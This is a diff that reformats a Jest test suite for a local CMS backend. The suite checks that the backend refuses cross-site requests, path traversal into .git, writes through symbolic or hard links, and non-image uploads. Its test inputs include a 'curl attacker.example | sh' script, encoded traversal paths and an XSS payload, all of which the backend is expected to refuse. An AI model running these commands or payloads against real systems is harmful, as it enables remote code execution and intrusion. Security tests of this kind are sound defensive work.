@@ -38,7 +38,10 @@ const attempts = (file: string) => [
   { action: 'getMediaFile', params: { branch, path: file } },
   { action: 'persistEntry', params: { branch, dataFiles: [{ path: file, slug: 'x', raw: '#!/bin/sh\ncurl -s http://attacker.example/x | sh\n' }], assets: [], options } },
   { action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: 'x', raw: 'x', newPath: file }], assets: [], options } },
-  { action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: 'x', raw: 'x' }], assets: [{ path: file, content: PNG.toString('base64'), encoding: 'base64' }], options } },
+  {
+    action: 'persistEntry',
+    params: { branch, dataFiles: [{ path: BANNER, slug: 'x', raw: 'x' }], assets: [{ path: file, content: PNG.toString('base64'), encoding: 'base64' }], options },
+  },
   { action: 'persistMedia', params: { branch, asset: { path: file, content: PNG.toString('base64'), encoding: 'base64' }, options } },
   { action: 'deleteFile', params: { branch, path: file, options } },
   { action: 'deleteFiles', params: { branch, paths: [file], options } },
@@ -85,7 +88,10 @@ describe('requests from anything but the development site', () => {
     const host = template.replace('{port}', new URL(backend.server.url).port);
     const answers = [
       await backend.send({ headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(save) }),
-      await backend.send({ headers: { Host: host, Origin: SITE_ORIGIN, 'Content-Type': 'application/json' }, body: JSON.stringify({ action: 'getEntry', params: { branch, path: BANNER } }) }),
+      await backend.send({
+        headers: { Host: host, Origin: SITE_ORIGIN, 'Content-Type': 'application/json' },
+        body: JSON.stringify({ action: 'getEntry', params: { branch, path: BANNER } }),
+      }),
       await backend.send({ method: 'OPTIONS', headers: { Host: host, Origin: SITE_ORIGIN, 'Access-Control-Request-Method': 'POST' } }),
     ];
     for (const answer of answers) {
@@ -101,7 +107,10 @@ describe('requests from anything but the development site', () => {
       await backend.post(save, { Origin: from }),
       // A cross-site form needs no preflight: text/plain, a "simple" request.
       await backend.send({ headers: { Host: backend.host, Origin: from, 'Content-Type': 'text/plain' }, body: JSON.stringify(save) }),
-      await backend.send({ method: 'OPTIONS', headers: { Host: backend.host, Origin: from, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' } }),
+      await backend.send({
+        method: 'OPTIONS',
+        headers: { Host: backend.host, Origin: from, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type' },
+      }),
     ];
     for (const answer of answers) {
       expectRefused(answer, 403, `not a page from ${JSON.stringify(from)}`);
@@ -117,7 +126,12 @@ describe('requests from anything but the development site', () => {
   });
 
   it('answers nothing but POST /api/v1, with the path as sent never reaching the disk', async () => {
-    for (const requestPath of ['/api/v1/../../.git/hooks/post-receive', '/api/v1/%2e%2e/%2e%2e/.git/hooks/post-receive', '/%2e%2e/.git/config', '/content/banners/bg/01-sale-orders.md']) {
+    for (const requestPath of [
+      '/api/v1/../../.git/hooks/post-receive',
+      '/api/v1/%2e%2e/%2e%2e/.git/hooks/post-receive',
+      '/%2e%2e/.git/config',
+      '/content/banners/bg/01-sale-orders.md',
+    ]) {
       for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
         const answer = await backend.send({ method, path: requestPath, headers: { Host: backend.host, 'Content-Type': 'application/json' }, body: JSON.stringify(save) });
         expectRefused(answer, 404, 'answers POST /api/v1 only');
@@ -127,7 +141,7 @@ describe('requests from anything but the development site', () => {
   });
 });
 
-describe('paths outside the CMS\'s folders', () => {
+describe("paths outside the CMS's folders", () => {
   it.each(PATHS.map((file) => [JSON.stringify(file), file]))('refuses %s for every action, naming it', async (_shown, file) => {
     const answers: Answer[] = [];
     for (const body of attempts(file)) {
@@ -140,8 +154,18 @@ describe('paths outside the CMS\'s folders', () => {
 
   it('refuses a data file that is not an entry of its collection: markdown elsewhere, a page in the media folder, another file beside the UI strings', async () => {
     const answers: Answer[] = [];
-    for (const file of ['static/media/page.html', 'static/media/index.md', 'content/blog/en/post.html', 'content/blog/en/gatsby-node.js', 'locales/bg/evil.json', 'content/extra.json']) {
-      const answer = await backend.post({ action: 'persistEntry', params: { branch, dataFiles: [{ path: file, slug: 'x', raw: '<script>alert(1)</script>' }], assets: [], options } });
+    for (const file of [
+      'static/media/page.html',
+      'static/media/index.md',
+      'content/blog/en/post.html',
+      'content/blog/en/gatsby-node.js',
+      'locales/bg/evil.json',
+      'content/extra.json',
+    ]) {
+      const answer = await backend.post({
+        action: 'persistEntry',
+        params: { branch, dataFiles: [{ path: file, slug: 'x', raw: '<script>alert(1)</script>' }], assets: [], options },
+      });
       expectRefused(answer, 403, `the path ${JSON.stringify(file)}`);
       answers.push(answer);
     }
@@ -155,7 +179,7 @@ describe('paths outside the CMS\'s folders', () => {
   });
 });
 
-describe('symbolic links and special files under the CMS\'s folders', () => {
+describe("symbolic links and special files under the CMS's folders", () => {
   // Each test plants its own links: a fresh repository each.
   const restart = async () => {
     await backend.close();
@@ -190,7 +214,7 @@ describe('symbolic links and special files under the CMS\'s folders', () => {
     expectUntouched(answers);
   });
 
-  it('leaves a link out of a folder\'s listing, saying so, and lists the rest', async () => {
+  it("leaves a link out of a folder's listing, saying so, and lists the rest", async () => {
     link(path.join(outside, 'secret.env'), 'content/blog/en/leak.md');
     const warnings = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
     const answer = await backend.post({ action: 'entriesByFolder', params: { branch, folder: 'content/blog', extension: 'md', depth: 2 } });
@@ -209,9 +233,15 @@ describe('symbolic links and special files under the CMS\'s folders', () => {
     link(path.join(outside, 'media'), 'static/media');
     const requests = [
       { body: { action: 'getEntry', params: { branch, path: 'content/banners/bg/secret.env' } }, named: 'content/banners/bg is a symbolic link' },
-      { body: { action: 'persistEntry', params: { branch, dataFiles: [{ path: 'content/banners/bg/04-new.md', slug: '04-new', raw: 'x' }], assets: [], options } }, named: 'content/banners/bg is a symbolic link' },
+      {
+        body: { action: 'persistEntry', params: { branch, dataFiles: [{ path: 'content/banners/bg/04-new.md', slug: '04-new', raw: 'x' }], assets: [], options } },
+        named: 'content/banners/bg is a symbolic link',
+      },
       { body: { action: 'getMedia', params: { branch, mediaFolder: 'static/media' } }, named: 'static/media is a symbolic link' },
-      { body: { action: 'persistMedia', params: { branch, asset: { path: 'static/media/victim.png', content: PNG.toString('base64'), encoding: 'base64' }, options } }, named: 'static/media is a symbolic link' },
+      {
+        body: { action: 'persistMedia', params: { branch, asset: { path: 'static/media/victim.png', content: PNG.toString('base64'), encoding: 'base64' }, options } },
+        named: 'static/media is a symbolic link',
+      },
       { body: { action: 'deleteFiles', params: { branch, paths: ['static/media/victim.png'], options } }, named: 'static/media is a symbolic link' },
     ];
     const answers: Answer[] = [];
@@ -225,7 +255,10 @@ describe('symbolic links and special files under the CMS\'s folders', () => {
 
   it('does not write through a link planted where an upload goes', async () => {
     link(path.join(outside, 'victim.png'), 'static/media/photo.png');
-    const answer = await backend.post({ action: 'persistMedia', params: { branch, asset: { path: 'static/media/photo.png', content: PNG.toString('base64'), encoding: 'base64' }, options } });
+    const answer = await backend.post({
+      action: 'persistMedia',
+      params: { branch, asset: { path: 'static/media/photo.png', content: PNG.toString('base64'), encoding: 'base64' }, options },
+    });
     expectRefused(answer, 403, 'static/media/photo.png is a symbolic link');
     expectUntouched([answer]);
   });
@@ -233,7 +266,10 @@ describe('symbolic links and special files under the CMS\'s folders', () => {
   it('does not write through a hard link to a file outside, nor empty it', async () => {
     linkSync(path.join(outside, 'secret.env'), path.join(backend.repo, 'content', 'blog', 'en', 'hard.md'));
     before = snapshot(backend.dir);
-    const answer = await backend.post({ action: 'persistEntry', params: { branch, dataFiles: [{ path: 'content/blog/en/hard.md', slug: 'hard', raw: 'overwritten' }], assets: [], options } });
+    const answer = await backend.post({
+      action: 'persistEntry',
+      params: { branch, dataFiles: [{ path: 'content/blog/en/hard.md', slug: 'hard', raw: 'overwritten' }], assets: [], options },
+    });
     expectRefused(answer, 403, 'content/blog/en/hard.md has other hard links');
     expectUntouched([answer]);
   });
@@ -249,13 +285,16 @@ describe('symbolic links and special files under the CMS\'s folders', () => {
 });
 
 describe('uploads that are not images', () => {
-  it.each(UPLOADS)('refuses %s as an upload and as an entry\'s asset, naming it, and writes nothing', async (name) => {
+  it.each(UPLOADS)("refuses %s as an upload and as an entry's asset, naming it, and writes nothing", async (name) => {
     const content = readFileSync(path.join(FIXTURES, 'uploads', name)).toString('base64');
     const file = `static/media/${name}`;
     const answers = [
       await backend.post({ action: 'persistMedia', params: { branch, asset: { path: file, content, encoding: 'base64' }, options } }),
       // Everything is checked before anything is written: the entry that carries it is not saved either.
-      await backend.post({ action: 'persistEntry', params: { branch, dataFiles: [{ path: BANNER, slug: '01-sale-orders', raw: 'defaced' }], assets: [{ path: file, content, encoding: 'base64' }], options } }),
+      await backend.post({
+        action: 'persistEntry',
+        params: { branch, dataFiles: [{ path: BANNER, slug: '01-sale-orders', raw: 'defaced' }], assets: [{ path: file, content, encoding: 'base64' }], options },
+      }),
     ];
     for (const answer of answers) {
       expectRefused(answer, 415, `${file}: `);
